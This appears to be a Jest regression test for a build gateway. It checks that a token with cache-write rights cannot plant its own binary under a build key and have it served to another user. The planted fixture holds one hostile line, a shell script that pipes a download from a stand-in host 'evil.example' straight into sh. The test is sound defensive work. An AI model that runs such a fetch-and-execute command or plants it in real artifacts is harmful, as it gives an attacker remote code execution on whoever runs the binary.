import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parseBuildRequest } from '../../src/builds/build-request-schema.js';
import { buildKey, canonicalRequest } from '../../src/builds/canonical-request.js';
import { artifact } from '../helpers/artifacts.js';
import { call, downloadSha256, pollUntilFinal } from '../helpers/builds-client.js';
import { startBuildGateway, type BuildGateway } from '../helpers/builds-gateway.js';
import { signJwt } from '../helpers/builds-security.js';
import { uniqueBucket } from '../helpers/gateway.js';
import { postJson, putBytes } from '../helpers/http.js';
import { uniqueRequest } from '../fixtures/builds/requests.js';

/**
 * Issue 9, item 4: build binaries used to live at `artifacts/builds/<build key>`, a key any
 * `cache:write` token could negotiate. Mallory (cache:write, namespace `builds`) uploaded her own
 * bytes under the documented build key, and the next `POST /v1/builds`, by another token, answered
 * `found` with her bytes. Now binaries live in the `builds` key space, which negotiation never
 * names: her upload lands beside it, the build runs, and the binary records who built it.
 */
const SECRET = 'builds-key-space-secret-0123456789abcdef';
const BINARY = 'legitimate-rr-binary';

describe.each(['s3', 'local'] as const)('build binaries are writable only by the build worker (%s driver)', (driver) => {
  let gw: BuildGateway;
  beforeAll(async () => {
    const storage =
      driver === 'local' ? { storage: { driver: 'local', local: { root: await mkdtemp(join(tmpdir(), 'vc-keyspace-')) } } } : {};
    gw = await startBuildGateway({
      bucket: uniqueBucket(),
      // The in-process queue and worker: the store is what matters here.
      builds: { command: `printf '${BINARY}' > "$VELOCITY_OUTPUT"` },
      inProcessWorker: true,
      config: { auth: { tokens: [], jwtSecret: SECRET }, ...storage },
    });
  });
  afterAll(async () => {
    await gw?.close();
  });

  it("a cache:write upload under the build key never becomes another token's binary", async () => {
    const mallory = await signJwt(SECRET, 'mallory', { scope: 'cache:read cache:write', namespaces: ['builds'] });
    const alice = await signJwt(SECRET, 'alice', { scope: 'build:request', namespaces: ['default'] });
    const request = uniqueRequest(`keyspace-${driver}`);
    // The documented key (docs/builds.md): SHA-256 of the canonical request.
    const key = buildKey(canonicalRequest(parseBuildRequest(request)));

    const planted = artifact('#!/bin/sh\ncurl evil.example | sh\n');
    const offer = await postJson(
      `${gw.url}/v1/negotiate`,
      { hash: key, namespace: 'builds', action: 'upload', size: planted.size, sha256: planted.sha256, md5: planted.md5 },
      mallory,
    );
    expect(offer.body.status).toBe('upload_needed');
    expect((await putBytes(offer.body.url as string, planted.body, offer.body.headers as Record<string, string>)).status).toBe(200);

    const submitted = await call('POST', `${gw.url}/v1/builds`, alice, request);
    expect(submitted.body.sha256).not.toBe(planted.sha256);
    expect(submitted.status).toBe(202);
    const final = await pollUntilFinal(gw.url, String(submitted.body.id), alice);
    expect(final.body.status).toBe('done');
    const binary = artifact(BINARY);
    expect(final.body.sha256).toBe(binary.sha256);
    expect(await downloadSha256(String(final.body.url))).toMatchObject({ status: 200, sha256: binary.sha256 });
    // Who built it, and for whom, recorded with the binary by the worker.
    expect(final.body.build).toMatchObject({
      requested_by: 'alice',
      built_by: expect.stringMatching(/^velocity-gateway@/) as unknown,
      builder: 'command',
      rr_version: 'v2025.1.2',
      platform: 'linux/amd64',
    });

    // The hit that follows serves the worker's binary, with the same facts.
    const hit = await call('POST', `${gw.url}/v1/builds`, alice, request);
    expect(hit.status).toBe(200);
    expect(hit.body).toMatchObject({ status: 'found', sha256: binary.sha256, build: { requested_by: 'alice', builder: 'command' } });
    // Mallory's object is still only hers, in the negotiated key space.
    const mine = await postJson(`${gw.url}/v1/negotiate`, { hash: key, namespace: 'builds', action: 'download' }, mallory);
    expect(mine.body).toMatchObject({ status: 'found', sha256: planted.sha256 });
  });
});
